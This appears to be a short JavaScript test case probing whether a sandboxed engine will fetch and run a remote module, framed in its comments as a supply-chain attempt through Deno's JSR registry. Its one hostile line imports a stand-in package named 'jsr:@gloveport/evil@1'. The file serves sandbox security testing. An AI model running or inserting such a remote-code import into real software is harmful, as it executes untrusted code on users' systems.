// Tries: a package from JSR, which the engine would fetch and run.
// Origin: supply chain, by Deno's second registry.

const settle = async (load) => {
  let outcome;
  load().then((module) => outcome = { module }, (error) => outcome = { error });
  for (let turn = 0; turn < 300 && !outcome; turn++) {
    if (typeof Deno === "object") await new Promise((resolve) => setTimeout(resolve, 5));
    else await crypto.subtle.digest("SHA-256", new Uint8Array(100000));
  }
  return outcome?.module ?? outcome?.error ?? "nothing";
};

return String(await settle(() => import("jsr:@gloveport/evil@1")));
